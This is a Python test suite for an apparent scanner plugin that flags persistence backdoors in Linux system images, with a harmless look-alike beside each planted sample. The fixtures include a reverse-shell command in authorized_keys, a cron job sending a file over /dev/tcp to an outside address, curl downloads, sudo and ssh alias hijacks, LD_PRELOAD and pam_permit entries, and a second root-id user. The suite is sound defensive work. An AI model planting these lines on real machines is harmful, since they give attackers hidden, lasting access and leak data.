"""The plugin persistence over planted files, and over harmless ones that resemble them."""

import json
import os
import unittest

import shell_lines
import support

CRON, SHELL, UNIT, START = "/etc/cron.d/x", "/root/.bashrc", "/etc/systemd/system/x.service", "/etc/init.d/x"

# By rule: the file and lines in it that are found by just that rule, and lines that are not found at all.
CASES = [
    (
        "runs-from-temporary",
        START,
        [
            "/tmp/x",
            "nohup /dev/shm/.x/y &",
            "sh -c '/var/tmp/x'",
            "true; /tmp/x arg",
            "if a; then /tmp/x; fi",
            ". /tmp/x",
        ],
        [
            "rm -rf /tmp/x",
            "exec > /tmp/log",
            "TMPDIR=/tmp/x",
            "/tmp/*|/var/tmp/*)",
            "[ -e /tmp/x ]",
            "mkdir -p /tmp/x; ls",
        ],
    ),
    (
        "runs-from-temporary",
        UNIT,
        ["ExecStart=/tmp/x", "ExecStartPre=-/var/tmp/x --a", "Exec=/dev/shm/x"],
        ["ExecStartPre=/bin/rm -f /tmp/x", "ReadWritePaths=/tmp/x", "WorkingDirectory=/tmp/x", "; ExecStart=/tmp/x"],
    ),
    ("runs-from-temporary", "/etc/udev/rules.d/x.rules", ['ACTION=="add", RUN+="/tmp/x"'], ['RUN+="/bin/x /tmp/x"']),
    (
        "runs-from-temporary",
        "/etc/apt/apt.conf.d/x",
        ['APT::Update::Pre-Invoke {"/tmp/x";};'],
        ['Dir::Cache "/tmp/x";'],
    ),
    ("runs-from-temporary", "/etc/inittab", ["x:2345:respawn:/tmp/x"], ["x:2345:respawn:/sbin/getty -l /tmp/x"]),
    (
        "cron-from-temporary",
        CRON,
        ["* * * * * www-data /tmp/x", "*/5 0-3 1,2 * mon root /dev/shm/x >/dev/null", "@reboot daemon /var/tmp/x"],
        ["* * * * * root find /tmp/x -delete", "install -d -m 0755 -o root /tmp/x", "# * * * * * root /tmp/x"],
    ),
    (
        "crontab-from-temporary",
        "/var/spool/cron/crontabs/me",
        ["* * * * * /tmp/x", "@daily /tmp/x"],
        ["@daily ls /tmp/x", "* * * * * ls /tmp/x"],
    ),
    (
        "downloads-from-address",
        CRON,
        ["* * * * * root curl -s http://203.0.113.7/x -o /opt/x"],
        ["0 * * * * root curl -s https://x.example/10.0.0.1"],
    ),
    (
        "replaces-command",
        SHELL,
        [
            "alias sudo='/usr/lib/x sudo'",
            "alias ssh='strace -o /usr/lib/.log ssh'",
            "alias su='su; x'",
            "sudo() { x; }",
            "function passwd { x; }",
        ],
        [
            "alias sudo='sudo '",
            "alias ssh='TERM=xterm ssh -A'",
            "alias sudo=doas",
            "alias ls='ls -l'",
            "_sudo() { x; }",
        ],
    ),
    (
        "preloads-library",
        SHELL,
        ["export LD_PRELOAD=/usr/lib/x.so", "LD_AUDIT='/opt/x.so'", "export LD_PRELOAD=/tmp/libjemalloc.so"],
        [
            "unset LD_PRELOAD",
            "LD_PRELOAD=",
            'export LD_PRELOAD=""',
            "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
        ],
    ),
    ("preloads-library", UNIT, ['Environment="LD_PRELOAD=/opt/x.so"'], ["UnsetEnvironment=LD_PRELOAD"]),
    (
        "prompt-command",
        SHELL,
        ["PROMPT_COMMAND='curl -s x.example'", 'PROMPT_COMMAND="/tmp/x"', "trap 'x' DEBUG; curl x"],
        ["PROMPT_COMMAND='history -a'", "PROMPT_COMMAND=", "trap 'x' EXIT"],
    ),
    (
        "pam-permits-all",
        "/etc/pam.d/common-auth",
        ["auth sufficient pam_permit.so", "-auth [success=done default=ignore] pam_permit.so"],
        ["auth required pam_permit.so", "account sufficient pam_permit.so", "auth [success=1] pam_unix.so"],
    ),
    (
        "pam-rootok",
        "/etc/pam.d/sshd",
        ["auth sufficient pam_rootok.so"],
        ["auth required pam_unix.so", "@include common-auth"],
    ),
    ("pam-rootok", "/etc/pam.d/remote", ["auth sufficient pam_rootok.so"], []),
    ("pam-runs-program", "/etc/pam.d/sshd", ["session optional pam_exec.so /opt/x"], ["session optional pam_motd.so"]),
    (
        "pam-module-elsewhere",
        "/etc/pam.d/login",
        ["auth required /opt/x.so", "session [default=ok] /usr/lib/x.so", "auth required /tmp/x.so"],
        [
            "auth required /lib/x86_64-linux-gnu/security/pam_unix.so",
            "auth required /usr/lib64/security/pam_unix.so",
            "auth include /etc/pam.d/common",
        ],
    ),
    ("tcp-wrapper", "/etc/hosts.allow", ["ALL: ALL: spawn /opt/x &", "sshd: ALL : twist /opt/x"], ["sshd: 10.0.0.0/8"]),
    (
        "sshd-empty-passwords",
        "/etc/ssh/sshd_config",
        ["PermitEmptyPasswords yes", "permitemptypasswords YES"],
        ["PermitEmptyPasswords no", "#PermitEmptyPasswords yes"],
    ),
    (
        "sshd-keys-elsewhere",
        "/etc/ssh/sshd_config.d/x.conf",
        ["AuthorizedKeysFile /tmp/keys", "AuthorizedKeysCommand /dev/shm/x"],
        ["AuthorizedKeysFile .ssh/authorized_keys"],
    ),
    (
        "sshd-keys-by-program",
        "/etc/ssh/sshd_config",
        ["AuthorizedKeysCommand /opt/x"],
        ["AuthorizedKeysCommand none", "AuthorizedKeysCommandUser x"],
    ),
    (
        "sshd-root-login",
        "/etc/ssh/sshd_config",
        ["PermitRootLogin yes"],
        ["PermitRootLogin prohibit-password", "PermitRootLogin no", "#PermitRootLogin yes"],
    ),
    (
        "ssh-runs-command",
        "/root/.ssh/config",
        ["LocalCommand /opt/x", "  PermitLocalCommand yes"],
        ["PermitLocalCommand no", "Host x"],
    ),
    ("libraries-elsewhere", "/etc/ld.so.conf.d/x.conf", ["/tmp/lib", "/home/me"], ["/usr/local/lib", "/opt/tmp"]),
    ("network-by-shell", CRON, ["* * * * * root cat /x > /dev/tcp/203.0.113.7/80"], ["* * * * * root ls /dev/tcp"]),
]


class PersistenceTree(support.Shipped):
    name = "persistence"

    def rules(self):
        return [rule for _, rule in self.found("rule_id")]


class LinesTest(PersistenceTree):
    def judged(self, path, line):
        self.write(path, line + "\n")
        rules = self.rules()
        os.remove(self.place(path))
        return rules

    def test_lines_of_their_places(self):
        for rule, path, found, harmless in CASES:
            for line in found:
                with self.subTest(rule=rule, line=line):
                    self.assertEqual(self.judged(path, line), [rule])
            for line in harmless:
                with self.subTest(harmless=line):
                    self.assertEqual(self.judged(path, line), [])

    def test_lines_of_all_places(self):
        for rule, lines in shell_lines.FOUND.items():
            for line in lines:
                with self.subTest(rule=rule, line=line):
                    self.assertEqual(self.judged(CRON, "* * * * * root " + line), [rule])
                    self.assertEqual(self.judged(SHELL, line), [rule])
        for line in shell_lines.HARMLESS:
            with self.subTest(harmless=line):
                self.assertIn(self.judged(START, line), ([], ["network-by-shell"]))

    def test_every_rule_has_a_case(self):
        with open(os.path.join(support.PLUGINS, self.name, "rules.json"), encoding="utf-8") as file:
            rules = [rule["id"] for rule in json.load(file)["lines"]]
        self.assertEqual(set(rules), {case[0] for case in CASES} | set(shell_lines.FOUND))
        self.assertEqual(len(rules), len(set(rules)))

    def test_a_file_has_few_findings(self):
        self.write(CRON, "@daily root /tmp/x\n" * 100)
        self.assertEqual(len(self.rules()), 5)

    def test_comments_are_not_continued_and_lines_are(self):
        self.write(SHELL, "# harmless \\\nsh -c \\\n  /tmp/x\n")
        self.assertEqual(self.rules(), ["runs-from-temporary"])
        self.write(SHELL, "x=" + "a" * 9000 + "; /tmp/x\n\0\n")
        self.assertEqual(self.rules(), ["runs-from-temporary"])
        self.write(SHELL, b"#!/bin/sh\0\n\xff\n/tmp/x\\")
        self.assertEqual(self.rules(), ["runs-from-temporary"])

    def test_members_of_findings(self):
        self.write(CRON, "@daily root /tmp/x\n")
        [event] = self.events()
        detail = event["alert_detail"]
        words = "cron: runs something from a place that everybody may write to: @daily root /tmp/x"
        self.assertEqual((event["level"], event["alert_type"]), ("High", "Backdoor"))
        self.assertEqual((detail["path"], detail["description"]), (CRON, words))
        self.assertEqual((detail["content"], detail["rule_id"]), ("@daily root /tmp/x", "cron-from-temporary"))


class PlacesTest(PersistenceTree):
    line = "nohup /tmp/x\n"

    def paths(self):
        return [path for _, path in self.found("path")]

    def test_places(self):
        places = (
            "/etc/crontab /etc/cron.daily/x /var/spool/cron/crontabs/x /etc/periodic/daily/x /etc/rc.local "
            "/etc/init.d/x /etc/update-motd.d/x /etc/systemd/user/x /usr/lib/systemd/system/x.timer /etc/profile "
            "/etc/profile.d/x.sh /etc/default/x /etc/skel/.profile /root/.profile /root/.config/autostart/x "
            "/home/a/.zshrc /srv/me/.bash_login /root/.config/systemd/user/x"
        ).split()
        self.write("/etc/passwd", "me:x:1:1::/srv/me:/bin/sh\nothers:x:2:2::/:\nlong:x:3:3::/%s\0:\n" % ("x" * 300))
        for place in places:
            self.write(place, self.line)
        self.write("/opt/x", self.line)
        self.write("/usr/share/doc/x/.bashrc", self.line)
        self.assertEqual(self.paths(), sorted(places))

    def test_links_are_followed_within_the_image(self):
        self.write("/opt/real", self.line)
        self.link("/etc/cron.daily", "/opt/daily")
        self.link("/opt/daily/x", "../real")
        self.link("/root/.bashrc", "/opt/real")
        self.link("/etc/profile", os.path.join(self.directory, "outside"))
        with open(os.path.join(self.directory, "outside"), "w", encoding="utf-8") as file:
            file.write(self.line)
        self.assertEqual(self.paths(), ["/etc/cron.daily/x", "/root/.bashrc"])

    def test_a_file_by_two_names_is_reported_once(self):
        self.write("/usr/lib/systemd/system/x.service", "ExecStart=/tmp/x\n")
        self.link("/lib", "usr/lib")
        self.link("/etc/systemd/system/multi-user.target.wants/x.service", "/lib/systemd/system/x.service")
        self.assertEqual(len(self.paths()), 1)

    def test_what_is_no_file_is_passed_over(self):
        os.makedirs(self.place("/etc/cron.d"))
        for name in ("/etc/cron.d/fifo", "/etc/passwd", "/etc/crontab"):
            os.mkfifo(self.place(name))
        self.link("/root", "/root")
        self.link("/etc/rc.local", "/dev/null")
        self.link("/home", "/etc/passwd")
        os.makedirs(self.place("/usr/bin/su"))
        self.assertEqual(self.paths(), [])


class OthersTest(PersistenceTree):
    def test_keys(self):
        self.write("/root/.ssh/authorized_keys", "# none\n")
        self.assertEqual(self.rules(), [])
        self.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA a\n# x\nssh-rsa AAAA b\n")
        self.assertEqual(self.found("description"), [("Medium", "2 keys may log in")])
        self.write("/root/.ssh/authorized_keys", 'command="bash -i >& /dev/tcp/x/1 0>&1" ssh-rsa AAAA b\n')
        self.assertEqual(self.rules(), ["shell-over-network", "authorized-keys"])

    def test_preloaded_libraries(self):
        self.write("/etc/ld.so.preload", "# /lib/x.so\n")
        self.assertEqual(self.rules(), [])
        self.write("/etc/ld.so.preload", "/lib/x.so:/lib/y.so\n")
        self.assertEqual(self.found("description"), [("Critical", "loads /lib/x.so, /lib/y.so into every program")])

    def test_further_roots(self):
        self.write(
            "/etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0:::\nme:x:10:0:::\n\\\nevil:x:00:0:::\nno:x::0:::\n"
        )
        self.assertEqual(self.found("description"), [("High", "user evil has the id of root")])

    def test_programs_that_ask_for_passwords(self):
        self.write("/usr/bin/su", b"\x7fELF")
        self.link("/usr/bin/sudo", "/etc/alternatives/sudo")
        self.link("/bin", "usr/bin")
        self.link("/usr/bin/login", "../bin/busybox")
        self.link("/usr/local/sbin/sshd", "../../sbin/sshd")
        self.write("/usr/sbin/sshd", b"")
        self.assertEqual(self.rules(), [])
        self.write("/usr/sbin/sshd", b"#!/bin/sh\n")
        self.link("/usr/bin/ssh", "/usr/lib/x")
        self.assertEqual(
            self.found("path", "description"),
            [("High", "/usr/bin/ssh", "ssh is a link to /usr/lib/x"), ("High", "/usr/sbin/sshd", "sshd is a script")],
        )

    def test_names_of_sshd(self):
        self.link("/opt/chsh", "/usr/sbin/sshd")
        self.link("/opt/other", "/usr/sbin/sshd")
        self.link("/opt/deep/su", "busybox")
        self.write("/opt/su", "")
        self.assertEqual(self.found("path", "rule_id"), [("Critical", "/opt/chsh", "sshd-by-name")])


if __name__ == "__main__":
    unittest.main()
